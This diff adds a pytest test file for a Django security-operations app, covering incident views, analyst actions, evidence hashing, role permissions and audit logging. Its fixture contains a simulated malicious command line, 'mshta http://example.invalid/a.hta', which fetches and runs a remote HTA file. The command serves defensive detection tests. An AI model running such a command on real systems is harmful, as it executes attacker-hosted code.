@@ -1,0 +1,330 @@
+"""The analysts' incident pages: every action, who may take it, and the pages that read."""
+
+from __future__ import annotations
+
+import datetime as dt
+import hashlib
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client
+
+from tests.accounts import current_vinh_yen, login_verified
+from tests.soc.incidents.support import BASE_TIME, finding_for, make_event, make_source
+from tinhso.core.models import AuditEvent, Role
+from tinhso.soc.incidents.alerts import raise_alerts
+from tinhso.soc.models import Alert, Incident, IncidentEvidence, IncidentNote, IncidentStatus
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture
+def users(make_user: Callable[..., Any]) -> dict[str, Any]:
+    return {
+        "analyst": make_user("phantich", Role.SECURITY_ANALYST, first_name="Minh", last_name="Lê"),
+        "analyst2": make_user("phantich2", Role.SECURITY_ANALYST),
+        "leader": make_user("lanhdao", Role.PROVINCIAL_LEADER),
+        "commune": make_user("canbo-xa", Role.COMMUNE_OFFICER, unit=current_vinh_yen()),
+    }
+
+
+@pytest.fixture
+def incident() -> Incident:
+    source = make_source(host="WS-KT-07")
+    event = make_event(
+        source,
+        fields={
+            "EventID": "1",
+            "Channel": "Microsoft-Windows-Sysmon/Operational",
+            "Image": "C:\\Windows\\System32\\mshta.exe",
+            "CommandLine": "mshta http://example.invalid/a.hta",
+        },
+    )
+    raise_alerts(
+        [
+            finding_for(
+                event,
+                "rule-mshta",
+                "high",
+                tags=("attack.execution", "attack.defense-evasion", "attack.t1218.005"),
+                title="Remotely Hosted HTA File Executed Via Mshta.EXE",
+            )
+        ]
+    )
+    return Incident.objects.get()
+
+
+def client_of(user: Any) -> Client:
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+def url(incident: Incident, action: str = "") -> str:
+    return f"/soc/incidents/{incident.pk}/{action + '/' if action else ''}"
+
+
+def status_of(incident: Incident) -> str:
+    incident.refresh_from_db()
+    return incident.status
+
+
+# --- Reading -------------------------------------------------------------------------------------
+
+
+def test_detail_shows_alert_events_and_attack(users: dict[str, Any], incident: Incident) -> None:
+    response = client_of(users["leader"]).get(url(incident))
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert "Remotely Hosted HTA File Executed Via Mshta.EXE" in html
+    assert "WS-KT-07" in html
+    assert "mshta http://example.invalid/a.hta" in html
+    assert "T1218.005" in html
+    assert "Mshta" in html  # the technique's ATT&CK name
+    assert 'data-testid="acknowledge-form"' not in html  # leaders read only
+
+
+def test_detail_explains_anomaly(users: dict[str, Any]) -> None:
+    event = make_event(make_source())
+    raise_alerts(
+        [
+            finding_for(
+                event,
+                "logon-hour",
+                kind="anomaly",
+                explanation={"key": "k1", "baseline": "08:00–17:00", "observed": "03:12"},
+            )
+        ]
+    )
+    incident = Incident.objects.get()
+    response = client_of(users["analyst"]).get(url(incident), HTTP_ACCEPT_LANGUAGE="en")
+    html = response.content.decode()
+    assert "03:12" in html
+    assert "08:00–17:00" in html
+    assert 'data-testid="explanation"' in html
+
+
+def test_list_filters_and_empty_state(users: dict[str, Any], incident: Incident) -> None:
+    client = client_of(users["analyst"])
+    assert f"#{incident.pk} " in client.get("/soc/incidents/").content.decode()
+    assert (
+        f"#{incident.pk} "
+        in client.get("/soc/incidents/?severity=high&host=kt-07&status=open").content.decode()
+    )
+    filtered = client.get("/soc/incidents/?severity=low").content.decode()
+    assert f"#{incident.pk} " not in filtered
+    assert 'data-testid="empty"' in filtered
+    later = client.get("/soc/incidents/?date_from=21/11/2026").content.decode()
+    assert f"#{incident.pk} " not in later
+    same_day = client.get("/soc/incidents/?date_from=20/11/2026&date_to=2026-11-20")
+    assert f"#{incident.pk} " in same_day.content.decode()
+
+
+def test_list_sorts_by_severity(users: dict[str, Any], incident: Incident) -> None:
+    low = make_event(make_source(host="WS-02"), time=BASE_TIME + dt.timedelta(hours=3))
+    raise_alerts([finding_for(low, "rule-low", "low")])
+    html = client_of(users["analyst"]).get("/soc/incidents/?sort=severity").content.decode()
+    assert html.index(f"#{incident.pk} ") < html.index("Rule rule-low")
+
+
+def test_alert_list_and_dashboard(users: dict[str, Any], incident: Incident) -> None:
+    client = client_of(users["leader"])
+    alerts = client.get("/soc/alerts/?severity=high").content.decode()
+    assert "Remotely Hosted HTA" in alerts
+    dashboard = client.get("/soc/?days=7")
+    assert dashboard.status_code == 200
+    html = dashboard.content.decode()
+    assert 'data-technique="T1218.005"' in html
+    assert 'data-tactic="execution"' in html
+    assert 'data-tactic="defense-evasion"' in html
+    assert "WS-KT-07" in html
+
+
+# --- Acting --------------------------------------------------------------------------------------
+
+
+def test_acknowledge_sets_time_and_logs(users: dict[str, Any], incident: Incident) -> None:
+    response = client_of(users["analyst"]).post(url(incident, "acknowledge"), {"ack-note": "xem"})
+    assert response.status_code == 302
+    incident.refresh_from_db()
+    assert incident.status == IncidentStatus.ACKNOWLEDGED
+    assert incident.acknowledged_at is not None
+    assert incident.assignee == users["analyst"]
+    assert IncidentNote.objects.filter(incident=incident, action="acknowledged").count() == 1
+    row = AuditEvent.objects.get(object_type="soc.incident", extra__action="acknowledged")
+    assert row.actor == users["analyst"]
+    assert row.before["status"] == "new"
+    assert row.after["status"] == "acknowledged"
+
+
+def test_acknowledge_twice_conflicts(users: dict[str, Any], incident: Incident) -> None:
+    client = client_of(users["analyst"])
+    client.post(url(incident, "acknowledge"))
+    response = client.post(url(incident, "acknowledge"))
+    assert response.status_code == 409
+    assert 'data-testid="action-error"' in response.content.decode()
+
+
+def test_htmx_action_returns_fragment(users: dict[str, Any], incident: Incident) -> None:
+    response = client_of(users["analyst"]).post(
+        url(incident, "acknowledge"), HTTP_HX_REQUEST="true"
+    )
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert 'data-testid="incident-workflow"' in html
+    assert "<html" not in html
+
+
+def test_assign_to_analyst_only(users: dict[str, Any], incident: Incident) -> None:
+    client = client_of(users["analyst"])
+    response = client.post(url(incident, "assign"), {"assign-assignee": users["analyst2"].pk})
+    assert response.status_code == 302
+    incident.refresh_from_db()
+    assert incident.assignee == users["analyst2"]
+    assert IncidentNote.objects.filter(incident=incident, action="assigned").count() == 1
+
+    refused = client.post(url(incident, "assign"), {"assign-assignee": users["leader"].pk})
+    assert refused.status_code == 400
+    incident.refresh_from_db()
+    assert incident.assignee == users["analyst2"]
+
+
+def test_comment_needs_text(users: dict[str, Any], incident: Incident) -> None:
+    client = client_of(users["analyst"])
+    assert client.post(url(incident, "comment"), {"note-note": ""}).status_code == 400
+    assert client.post(url(incident, "comment"), {"note-note": "Đã cô lập máy"}).status_code == 302
+    note = IncidentNote.objects.get(incident=incident, action="comment")
+    assert note.text == "Đã cô lập máy"
+    assert note.author == users["analyst"]
+    assert AuditEvent.objects.filter(object_type="soc.incidentnote").count() == 1
+
+
+def test_resolve_needs_resolution_and_note(users: dict[str, Any], incident: Incident) -> None:
+    client = client_of(users["analyst"])
+    missing = client.post(url(incident, "resolve"), {"resolve-resolution": "false_positive"})
+    assert missing.status_code == 400
+    assert 'data-testid="errors-resolve-note"' in missing.content.decode()
+    assert status_of(incident) == IncidentStatus.NEW
+
+    done = client.post(
+        url(incident, "resolve"),
+        {"resolve-resolution": "true_positive", "resolve-note": "Gỡ tệp HTA, đổi mật khẩu"},
+    )
+    assert done.status_code == 302
+    incident.refresh_from_db()
+    assert incident.status == IncidentStatus.RESOLVED
+    assert incident.resolution == "true_positive"
+    assert incident.resolution_note == "Gỡ tệp HTA, đổi mật khẩu"
+    assert incident.resolved_at is not None
+    # Resolving counts as acknowledging when nobody acknowledged first.
+    assert incident.acknowledged_at == incident.resolved_at
+
+
+def test_close_and_reopen(users: dict[str, Any], incident: Incident) -> None:
+    client = client_of(users["analyst"])
+    assert client.post(url(incident, "close")).status_code == 409
+    client.post(
+        url(incident, "resolve"), {"resolve-resolution": "benign", "resolve-note": "Quản trị viên"}
+    )
+    assert client.post(url(incident, "close"), {"close-note": "Xong"}).status_code == 302
+    incident.refresh_from_db()
+    assert incident.status == IncidentStatus.CLOSED
+    assert incident.closed_at is not None
+
+    assert client.post(url(incident, "reopen"), {"reopen-note": ""}).status_code == 400
+    assert client.post(url(incident, "reopen"), {"reopen-note": "Tái diễn"}).status_code == 302
+    incident.refresh_from_db()
+    assert incident.status == IncidentStatus.ACKNOWLEDGED
+    assert incident.closed_at is None
+    assert incident.resolved_at is None
+    assert incident.resolution == ""
+    actions = list(IncidentNote.objects.filter(incident=incident).values_list("action", flat=True))
+    assert actions == ["opened", "resolved", "closed", "reopened"]
+
+
+def test_evidence_upload_hash_and_download(
+    users: dict[str, Any], incident: Incident, settings: Any, tmp_path: Any
+) -> None:
+    settings.MEDIA_ROOT = tmp_path
+    content = "Nhật ký tường lửa 20/11\n".encode() * 100
+    client = client_of(users["analyst"])
+    upload = SimpleUploadedFile("tuong-lua.log", content, content_type="text/plain")
+    response = client.post(
+        url(incident, "evidence"), {"evidence-file": upload, "evidence-description": "Bản sao"}
+    )
+    assert response.status_code == 302
+
+    evidence = IncidentEvidence.objects.get()
+    digest = hashlib.sha256(content).hexdigest()
+    assert evidence.sha256 == digest
+    assert evidence.size == len(content)
+    assert evidence.name == "tuong-lua.log"
+    assert digest in client.get(url(incident)).content.decode()
+
+    download = client.get(f"{url(incident)}evidence/{evidence.pk}/")
+    assert download.status_code == 200
+    assert hashlib.sha256(b"".join(download.streaming_content)).hexdigest() == digest  # type: ignore[arg-type]
+    assert AuditEvent.objects.filter(object_type="soc.incidentevidence").count() == 2
+
+
+def test_evidence_over_limit_rejected(
+    users: dict[str, Any], incident: Incident, settings: Any, tmp_path: Any
+) -> None:
+    settings.MEDIA_ROOT = tmp_path
+    settings.TINHSO_SOC_EVIDENCE_MAX_BYTES = 100
+    upload = SimpleUploadedFile("lon.bin", b"x" * 101)
+    response = client_of(users["analyst"]).post(
+        url(incident, "evidence"), {"evidence-file": upload}
+    )
+    assert response.status_code == 400
+    assert 'data-testid="errors-evidence-file"' in response.content.decode()
+    assert IncidentEvidence.objects.count() == 0
+
+
+ACTIONS = {
+    "acknowledge": {},
+    "assign": {"assign-assignee": "0"},
+    "comment": {"note-note": "x"},
+    "resolve": {"resolve-resolution": "benign", "resolve-note": "x"},
+    "close": {},
+    "reopen": {"reopen-note": "x"},
+    "evidence": {},
+}
+
+
+@pytest.mark.parametrize("action", sorted(ACTIONS))
+def test_leader_and_officer_may_not_act(
+    users: dict[str, Any], incident: Incident, action: str
+) -> None:
+    data = dict(ACTIONS[action])
+    if action == "assign":
+        data["assign-assignee"] = str(users["analyst"].pk)
+    for role in ("leader", "commune"):
+        response = client_of(users[role]).post(url(incident, action), data)
+        assert response.status_code == 403, role
+    anonymous = Client().post(url(incident, action), data)
+    assert anonymous.status_code == 302
+    assert anonymous["Location"].startswith("/login/")
+    assert status_of(incident) == IncidentStatus.NEW
+    assert IncidentNote.objects.filter(incident=incident).exclude(action="opened").count() == 0
+
+
+def test_commune_officer_may_not_read(users: dict[str, Any], incident: Incident) -> None:
+    client = client_of(users["commune"])
+    for path in ("/soc/", "/soc/incidents/", url(incident), "/soc/alerts/", "/soc/reports/"):
+        assert client.get(path).status_code == 403, path
+
+
+def test_get_on_action_not_allowed(users: dict[str, Any], incident: Incident) -> None:
+    assert client_of(users["analyst"]).get(url(incident, "acknowledge")).status_code == 405
+
+
+def test_admin_acts_after_second_factor(make_user: Callable[..., Any], incident: Incident) -> None:
+    admin = make_user("quantri", Role.SYSTEM_ADMINISTRATOR, is_staff=True, is_superuser=True)
+    client = Client()
+    login_verified(client, admin)
+    assert client.post(url(incident, "acknowledge")).status_code == 302
+    assert status_of(incident) == IncidentStatus.ACKNOWLEDGED
+    assert Alert.objects.get().incident_id == incident.pk
